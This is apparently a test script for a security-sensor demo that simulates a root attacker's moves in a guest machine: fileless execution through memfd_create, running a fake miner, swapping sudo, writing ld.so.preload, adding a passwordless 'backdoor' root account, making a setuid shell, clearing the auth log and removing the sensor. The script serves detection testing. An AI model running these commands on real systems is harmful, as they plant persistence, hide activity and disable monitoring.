# shellcheck shell=sh
# SPDX-License-Identifier: Apache-2.0
#
# What somebody does who has become root on a machine. Changes files of the system: for the guest
# of deploy/demo/run only.
#
# usage: attack.sh prepare       the machine as it was before
#        attack.sh try STEP      one step
#        attack.sh worked STEP   exit 0: the step had its effect

readonly loot=/root/x # what the attacker has of his own

prepare() {
  [ ! -e "$loot/kentry" ] || mv "$loot/kentry" /bin/kentry
  rm -rf "$loot" /dev/shm/.cache /etc/ld.so.preload /opt/xmrig
  mkdir -p "$loot" /opt /usr/bin /var/log /etc/kentry/rules
  printf '#!/bin/sh\necho the real sudo\n' >/usr/bin/sudo
  printf 'root:x:0:0:root:/root:/bin/sh\n' >/etc/passwd
  printf 'sshd: accepted password for root from 203.0.113.7\n' >/var/log/auth.log
  cp /usr/bin/perl /dev/shm/.cache
  cp /usr/bin/perl /opt/xmrig
  cp /bin/busybox "$loot/sh"
  printf '#!/bin/sh\necho planted\n' >"$loot/sudo"
  # A change would have the sensor load all rules again, while the attack goes on.
  [ ! -e /etc/kentry/rules/site.yaml ] || return 0
  cat >/etc/kentry/rules/site.yaml <<'RULES'
rules:
  - name: site-no-miners
    on: process.exec
    when: process.binary.endsWith("/xmrig")
    then: kill
    severity: critical
    message: "{process.binary} was started by {parent.binary}"
RULES
}

# shellcheck disable=SC2016  # perl's variables
try() {
  case $1 in
    memory) # memfd_create(2), and the program by its descriptor
      exec perl -e '
        my $name = "kworker";
        my $fd = syscall(319, $name, 0);
        open(my $program, "<:raw", "/bin/busybox"); read($program, my $bytes, -s $program);
        open(my $memory, ">&=", $fd); syswrite($memory, $bytes);
        exec {"/proc/self/fd/$fd"} "touch", $ARGV[0]' "$loot/memory" ;;
    shm) exec /dev/shm/.cache -e 'open(my $file, ">", $ARGV[0])' "$loot/shm" ;;
    miner) exec /opt/xmrig -e 'open(my $file, ">", $ARGV[0])' "$loot/miner" ;;
    program) mv "$loot/sudo" /usr/bin/sudo ;;
    preload) echo "$loot/hide.so" >/etc/ld.so.preload ;;
    account) echo 'backdoor::0:0::/root:/bin/sh' >>/etc/passwd ;;
    setuid) chmod 4755 "$loot/sh" ;;
    log) : >/var/log/auth.log ;;
    sensor) mv /bin/kentry "$loot/kentry" ;;
  esac
}

worked() {
  case $1 in
    memory | shm | miner) [ -e "$loot/$1" ] ;;
    program) grep -q planted /usr/bin/sudo ;;
    preload) [ -s /etc/ld.so.preload ] ;;
    account) grep -q backdoor /etc/passwd ;;
    setuid) [ -u "$loot/sh" ] ;;
    log) [ ! -s /var/log/auth.log ] ;;
    sensor) [ ! -e /bin/kentry ] ;;
  esac
}

"$@"
